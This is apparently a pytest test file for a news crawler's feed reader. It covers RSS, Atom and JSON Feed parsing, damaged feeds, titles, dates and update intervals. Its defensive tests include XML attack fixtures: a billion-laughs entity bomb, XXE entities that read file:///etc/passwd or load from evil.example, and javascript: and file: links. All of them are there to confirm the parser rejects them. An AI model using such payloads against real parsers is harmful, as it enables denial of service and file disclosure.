import json
from datetime import UTC, datetime, timedelta

import pytest

from archive.models import Page, Precision
from crawler.discover.listing import read

URL = "https://news.example.com/feeds/all.xml"
AT = datetime(2026, 5, 1, tzinfo=UTC)


def listing(body, content_type="application/xml", url=URL):
    body = body.encode() if isinstance(body, str) else body
    return read(Page(url, url, 200, (("content-type", content_type),), body, AT), "herald")


def rss(items, head="", before='<?xml version="1.0" encoding="UTF-8"?>\n'):
    return f'{before}<rss version="2.0"><channel><title>Herald</title>{head}{items}</channel></rss>'


def item(number, title="A title", extra=""):
    return f"<item><title>{title}</title><link>https://news.example.com/a/{number}</link>{extra}</item>\n"


def paths(found):
    return [link.url.removeprefix("https://news.example.com") for link in found.links]


DIALECTS = {
    "RSS 0.91": '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.example/rss-0.91.dtd">'
    '<rss version="0.91"><channel><item><title>T</title><link>https://news.example.com/a/1</link></item></channel></rss>',
    "RSS 0.92": '<rss version="0.92"><channel><item><title>T</title><link>/a/1</link></item></channel></rss>',
    "RSS 1.0": '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
    '<channel rdf:about="x"/><item rdf:about="https://news.example.com/a/1"><title>T</title></item></rdf:RDF>',
    "RSS 2.0": rss("<item><title>T</title><guid>https://news.example.com/a/1</guid></item>"),
    "Atom 0.3": '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>T</title>'
    '<link rel="alternate" type="text/html" href="https://news.example.com/a/1"/></entry></feed>',
    "Atom 1.0": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">T</title>'
    '<link href="/a/1"/><id>tag:x</id></entry></feed>',
    "Atom with a prefix": '<atom:feed xmlns:atom="http://www.w3.org/2005/Atom"><atom:entry><atom:title>T</atom:title>'
    '<atom:link href="/a/1"/></atom:entry></atom:feed>',
    "JSON Feed": '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","url":"/a/1","title":"T"}]}',
}


@pytest.mark.parametrize("dialect", DIALECTS)
def test_every_dialect_gives_its_articles(dialect):
    found = listing(DIALECTS[dialect], "text/html; charset=nonsense")
    assert found.kind == "feed"
    assert [(link.url, link.title) for link in found.links] == [("https://news.example.com/a/1", "T")]
    assert found.links[0].source == "herald"
    assert found.links[0].found_in == URL
    assert found.problem == ""


GOOD = "".join(item(n) for n in range(1, 6))
DAMAGED = {
    "white space before the declaration": b"\n\n  " + rss(GOOD).encode(),
    "a BOM and white space": b"\xef\xbb\xbf\n" + rss(GOOD).encode(),
    "a server's warning before it": b"<br />\n<b>Warning</b>: <a href='x'>include()</a> failed\n" + rss(GOOD).encode(),
    "text after the end": rss(GOOD).encode() + b"<!-- cached --> 0.3 s",
    "a bare ampersand": rss(item(1, "Fish & Chips") + "".join(item(n) for n in range(2, 6))).encode(),
    "ampersands in a link": rss(GOOD.replace("/a/1<", "/a/1?id=1&p=2<")).encode(),
    "entities of HTML": rss(item(1, "Caf&eacute;&nbsp;bar") + "".join(item(n) for n in range(2, 6))).encode(),
    "an entity nobody declared": rss(item(1, "&foo; bar") + "".join(item(n) for n in range(2, 6))).encode(),
    "control characters": rss(item(1, "A\x0b\x00\x1b title") + "".join(item(n) for n in range(2, 6))).encode(),
    "Latin-1 declared as UTF-8": rss(GOOD.replace("A title", "Zürich früh")).encode("latin-1"),
    "UTF-8 declared as Latin-1": rss(
        GOOD.replace("A title", "Zürich"), before='<?xml version="1.0" encoding="iso-8859-1"?>'
    ).encode(),
    "an encoding nobody knows": rss(GOOD, before='<?xml version="1.0" encoding="x-unknown-9"?>').encode(),
    "UTF-16": rss(GOOD, before='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"),
    "UTF-16 without a BOM": rss(GOOD, before='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le"),
    "XML 1.1": rss(GOOD, before='<?xml version="1.1"?>').encode(),
    "an unbound prefix": rss(GOOD.replace("</item>", "<media:thing/></item>")).encode(),
    "open tags in a description": rss(GOOD.replace("</item>", "<description>a<br>b<p>c</description></item>")).encode(),
    "an unquoted attribute": rss(GOOD.replace("<item>", "<item id=3>")).encode(),
    "the end missing": rss(GOOD).encode()[:-20],
    "cut off in the sixth entry": rss(GOOD + "<item><title>Cut o").encode().split(b"</channel>")[0],
    "a character reference XML forbids": rss(item(1, "A&#11; title") + "".join(item(n) for n in range(2, 6))).encode(),
    "upper-case tags": rss(GOOD).replace("item>", "ITEM>").replace("link>", "LINK>").encode(),
}  # fmt: skip


@pytest.mark.parametrize("damage", DAMAGED)
def test_a_damaged_feed_gives_all_five_of_its_articles(damage):
    found = listing(DAMAGED[damage])
    assert found.kind == "feed"
    assert [path.partition("?")[0] for path in paths(found)] == ["/a/1", "/a/2", "/a/3", "/a/4", "/a/5"]
    assert all(link.title for link in found.links)
    assert "�" not in "".join(link.title for link in found.links)


def test_damage_that_costs_something_is_told_with_its_line():
    lines = rss(GOOD + "<item><title>Broken</title><b><i></b></i>\n<link").split("</channel>")[0]
    found = listing(lines)
    assert len(found.links) == 5
    assert found.problem.startswith("the feed is damaged at line 7 (")
    assert found.problem.endswith("5 of its entries could be read")


@pytest.mark.parametrize("before", ["", "<b><i></b></i>"])
def test_a_link_that_is_cut_off_is_not_taken_for_another(before):
    found = listing(rss(GOOD + before + item(12345)).split("345</link>")[0])
    assert paths(found) == ["/a/1", "/a/2", "/a/3", "/a/4", "/a/5"]


def test_damage_that_could_be_repaired_is_no_problem():
    assert listing(DAMAGED["a bare ampersand"]).problem == ""
    assert listing(DAMAGED["a bare ampersand"]).links[0].title == "Fish & Chips"
    assert listing(DAMAGED["ampersands in a link"]).links[0].url.endswith("/a/1?id=1&p=2")
    assert listing(DAMAGED["entities of HTML"]).links[0].title == "Café bar"
    assert listing(DAMAGED["Latin-1 declared as UTF-8"]).links[0].title == "Zürich früh"
    assert listing(DAMAGED["UTF-8 declared as Latin-1"]).links[0].title == "Zürich"


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(20))
    + "]>"
)


@pytest.mark.parametrize(
    "bomb",
    [
        rss(item(1, "&t; laughs") + item(2), before=LAUGHS),
        rss(item(1, "&t; laughs") + item(2) + "<broken", before=LAUGHS),
        rss(item(1, "&a; laughs") + item(2), before=f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>'),
        rss(item(1, "&x; laughs") + item(2), before='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        rss(item(1, "&x; laughs") + item(2), before='<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/d">%p;]>'),
        "<!-- " + "x" * 30_000 + " -->" + LAUGHS.split("?>")[1] + rss(item(1, "&t; laughs") + item(2), before=""),
        rss(item(1, "&t; laughs") + LAUGHS.split("?>")[1] + item(2) + "<broken", before=""),
    ],
)
def test_declared_entities_are_never_expanded(bomb):
    found = listing(bomb)
    assert all(len(link.title) < 60 and "root:" not in link.title and "haha" not in link.title for link in found.links)
    assert len(found.links) in {0, 2}


def test_a_feeds_own_text_is_not_taken_for_the_name_of_a_file(tmp_path):
    secret = tmp_path / "feed.xml"
    secret.write_text(rss(GOOD))
    assert listing(str(secret)).links == ()
    assert listing(f"<rss>{secret}").links == ()


def test_the_articles_own_address_goes_before_the_feed_services():
    entry = (
        '<item xmlns:feedburner="x"><title>T</title><link>https://feeds.example.net/~r/herald/1</link>'
        "<feedburner:origLink>https://news.example.com/a/1</feedburner:origLink></item>"
    )
    assert paths(listing(rss(entry))) == ["/a/1"]
    assert paths(listing(rss(entry + "<broken"))) == ["/a/1"]


def test_the_readable_alternate_is_chosen_among_links():
    entry = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><link href="/"/><entry><title>T</title>'
        '<link rel="self" href="/self"/><link rel="enclosure" href="/a.mp3"/>'
        '<link rel="alternate" type="application/json" href="/a.json"/>'
        '<link rel="alternate" type="text/html" href="/a/1"/><link rel="replies" href="/a/1/comments"/></entry></feed>'
    )
    assert paths(listing(entry)) == ["/a/1"]


@pytest.mark.parametrize(
    ("guid", "expected"),
    [
        ("<guid>https://news.example.com/a/1</guid>", ["/a/1"]),
        ('<guid isPermaLink="true">https://news.example.com/a/1</guid>', ["/a/1"]),
        ('<guid isPermaLink="false">https://news.example.com/a/1</guid>', []),
        ("<guid>4711</guid>", []),
    ],
)
def test_a_guid_is_an_address_only_where_it_says_so(guid, expected):
    assert paths(listing(rss(f"<item><title>T</title>{guid}</item>"))) == expected
    assert paths(listing(rss(f"<item><title>T</title>{guid}</item><broken"))) == expected


def test_links_are_resolved_against_the_nearest_base():
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/world/">'
        '<entry xml:base="asia/"><title>T</title><link href="one"/></entry>'
        '<entry><title>T</title><link xml:base="https://other.example.org/" href="two"/></entry>'
        '<entry><title>T</title><link href="three"/></entry></feed>'
    )
    assert [link.url for link in listing(atom).links] == [
        "https://news.example.com/world/asia/one",
        "https://other.example.org/two",
        "https://news.example.com/world/three",
    ]


def test_hostile_addresses_are_passed_over_and_said_so_if_none_is_left():
    hostile = [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "http://exa mple.com/",
        "https://news.example.com/",
    ]
    found = listing(rss("".join(f"<item><title>T</title><link>{url}</link></item>" for url in hostile)))
    assert found.links == ()
    assert found.problem == "none of the feed's 5 entries has a link to a page"


def test_an_article_offered_twice_stands_once_with_what_both_say():
    twice = rss(
        "<item><link>https://news.example.com/a/1?utm_source=rss</link></item>"
        + item(2)
        + item(1, "Named", "<pubDate>Tue, 05 Nov 2024 10:00:00 GMT</pubDate>")
    )
    found = listing(twice)
    assert paths(found) == ["/a/1", "/a/2"]
    assert found.links[0].title == "Named"
    assert found.links[0].published.at.year == 2024


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        ("<![CDATA[Tom & <b>Jerry</b>]]>", "Tom & Jerry"),
        ("AT&amp;amp;T", "AT&T"),
        ("Less &lt; more", "Less < more"),
        ("&lt;em&gt;Very&lt;/em&gt; good", "Very good"),
        ("&#8220;Quoted&#8221; &amp;#8211; here", "“Quoted” – here"),
        ("  Two\n   lines ", "Two lines"),
        ("One &lt;br/&gt;two", "One two"),
        ("x" * 9_000, "x" * 500),
    ],
)
def test_a_title_is_what_a_person_reads(raw, title):
    assert listing(rss(item(1, raw))).links[0].title == title


def test_inline_markup_in_a_title_belongs_to_it():
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        'A <em>new</em> day</div></title><link href="/a/1"/><source><title>Other paper</title></source></entry></feed>'
    )
    assert listing(atom).links[0].title == "A new day"


def test_a_pictures_title_is_not_the_articles():
    entry = item(1, "Right").replace("<item>", "<item><media:content><media:title>Wrong</media:title></media:content>")
    assert listing(rss(entry)).links[0].title == "Right"


@pytest.mark.parametrize(
    ("raw", "at", "precision"),
    [
        ("Tue, 05 Nov 2024 10:00:09 GMT", "2024-11-05T10:00:09+00:00", Precision.SECOND),
        ("Tue, 05 Nov 2024 10:00 +0100", "2024-11-05T10:00:00+01:00", Precision.MINUTE),
        ("05 Nov 2024 10:00:00 EST", "2024-11-05T10:00:00-05:00", Precision.SECOND),
        ("Tue, 5 Nov 2024 10:00:00 CET", "2024-11-05T10:00:00+01:00", Precision.SECOND),
        ("2024-11-05T10:00:09.123Z", "2024-11-05T10:00:09+00:00", Precision.SECOND),
        ("2024-11-05T10:00+05:30", "2024-11-05T10:00:00+05:30", Precision.MINUTE),
        ("2024-11-05 10:00:09", "2024-11-05T10:00:09+00:00", Precision.SECOND),
        ("2024-11-05T23:59:60Z", "2024-11-05T23:59:59+00:00", Precision.SECOND),
        ("20241105T100009Z", "2024-11-05T10:00:09+00:00", Precision.SECOND),
        ("2024-11-05", "2024-11-05T00:00:00+00:00", Precision.DAY),
        ("2024-11", "2024-11-01T00:00:00+00:00", Precision.MONTH),
        ("2024", "2024-01-01T00:00:00+00:00", Precision.YEAR),
    ],
)
def test_a_date_keeps_its_zone_and_its_precision(raw, at, precision):
    stamp = listing(rss(item(1, "T", f"<pubDate>{raw}</pubDate>"))).links[0].published
    assert (stamp.at.isoformat(), stamp.precision, stamp.how) == (at, precision, "feed")


@pytest.mark.parametrize(
    "raw",
    ["", "soon", "2024-13-45", "Tue, 99 Nov 2024 10:00:00 GMT", "1970-01-01T00:00:00Z",
     "0001-01-01T00:00:00", "9" * 500,
     "0000-00-00 00:00:00", "9999-12-31T23:59:59-12:00", "2026-06-01T00:00:00Z", "2024-01-01T00:00:00+99:99"],
)  # fmt: skip
def test_a_date_that_cannot_be_is_left_out(raw):
    link = listing(rss(item(1, "T", f"<pubDate>{raw}</pubDate>"))).links[0]
    assert link.published is None


def test_published_and_changed_are_told_apart():
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><updated>2020-01-01T00:00:00Z</updated><entry><title>T</title>'
        '<link href="/a/1"/><published>2024-11-05T10:00:00Z</published>'
        "<updated>2024-11-06T10:00:00Z</updated></entry></feed>"
    )
    for body in (atom, atom.replace("</feed>", "<broken")):
        link = listing(body).links[0]
        assert (link.published.at.day, link.changed.at.day) == (5, 6)


@pytest.mark.parametrize(
    ("head", "ttl"),
    [
        ("<ttl>45</ttl>", timedelta(minutes=45)),
        ("<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>", timedelta(minutes=15)),
        ("<sy:updatePeriod> daily </sy:updatePeriod>", timedelta(days=1)),
        ("<ttl>0</ttl>", None),
        ("<ttl>often</ttl>", None),
        ("<ttl>99999999999999</ttl>", None),
        ("<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>0</sy:updateFrequency>", None),
        ("", None),
    ],
)
def test_a_feed_says_how_long_to_leave_it(head, ttl):
    assert listing(rss(GOOD, head)).ttl == ttl


def test_a_json_feed_cut_off_gives_what_came_before():
    feed = json.dumps({"version": "x", "items": [{"id": str(n), "url": f"/a/{n}", "title": "T"} for n in range(5)]})
    found = listing(feed[:-30], "application/feed+json")
    assert paths(found) == ["/a/0", "/a/1", "/a/2", "/a/3"]
    assert "4 of its entries could be read" in found.problem


@pytest.mark.parametrize(
    "body",
    [
        '{"items": 3}', '{"items": [3, null, "x", [], {"url": 7}]}', '{"items": {"url": "/a"}}', '["items"]',
        '{"items": [{"url": "\\ud800"}, {"url": "/a/1", "title": "\\ud800"}]}', '{"items": ' + "[" * 100_000,
        '{"items": [' + '{"a":' * 100_000, '{"items": [{"url": "/a/1", "n": ' + "9" * 10_000 + "}]}",
    ],
)  # fmt: skip
def test_json_of_another_shape_is_no_accident(body):
    assert len(listing(body).links) <= 1


def test_a_feed_of_a_hundred_thousand_entries_is_read_whole():
    found = listing(rss("".join(item(n) for n in range(100_000))))
    assert len(found.links) == 100_000
    assert found.problem == ""


@pytest.mark.parametrize(
    "hostile",
    ["<!DOCTYPE [", "<a ", "<item><link>", "&", "<", "<![CDATA[", "<!--", "<item a='", "]]>", "<b xml:base='x'>"],
)
def test_what_is_repeated_without_end_is_read_to_an_end(hostile):
    listing("<rss><channel>" + item(1) + hostile * 20_000)


def test_what_the_slow_reader_chokes_on_leaves_what_the_fast_one_read():
    found = listing("<rss><channel>" + item(1) + "<item><![CDATA[<item>&#xD800;")
    assert paths(found) == ["/a/1"]
    assert "1 of its entries could be read" in found.problem


def test_deep_nesting_stops_the_reading_not_the_reader():
    found = listing(rss(item(1) + "<x>" * 5_000))
    assert paths(found) == ["/a/1"]
    assert "nested too deep" in found.problem
